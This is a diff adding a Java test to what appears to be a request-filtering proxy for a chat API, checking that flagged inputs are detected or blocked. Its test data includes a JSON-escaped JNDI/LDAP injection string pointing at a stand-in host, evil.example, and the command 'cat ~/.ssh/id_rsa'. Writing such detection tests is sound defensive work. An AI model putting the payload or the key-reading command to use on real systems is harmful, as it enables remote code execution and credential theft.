@@ -285,6 +285,25 @@ class RedFlagTest {
     }
 
     @Test
+    void inTheRedactorsPassAnEscapedLiteralIsFoundAndAMemberNameIsNotRead() throws Exception {
+        // redact: true and a JSON body: the request rules run in the redactor's pass (RedFlagFold)
+        start("""
+                rules:
+                    - credential_path
+                    - { id: template_injection, action: block }""");
+        String escaped = "{\"model\":\"m\",\"messages\":[{\"role\":\"user\","
+                + "\"content\":\"x \\u0024{jndi:ldap:\\/\\/evil.example\\/a} y\"}]}";
+        assertThat(send("/v1/escaped", escaped).statusCode()).isEqualTo(403);
+        assertThat(record("/v1/escaped").path("rule").asText()).isEqualTo("red_flags.template_injection");
+        String named = "{\"cat ~/.ssh/id_rsa\":\"x\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}";
+        assertThat(send("/v1/named", named).statusCode()).isEqualTo(200);
+        assertThat(record("/v1/named").has("red_flags")).isFalse();
+        assertThat(send("/v1/valued", chat("please cat ~/.ssh/id_rsa")).statusCode()).isEqualTo(200);
+        assertThat(record("/v1/valued").path("red_flags").path("credential_path").asLong()).isEqualTo(1);
+        assertThat(origin.server().findAll(postRequestedFor(urlEqualTo("/v1/escaped")))).isEmpty();
+    }
+
+    @Test
     void aRequestExpecting100ContinueIsNotHeldAndABlockMatchStillRefusesIt() throws Exception {
         sluice = SluiceFixture.start(sluicePolicy("""
                 rules:
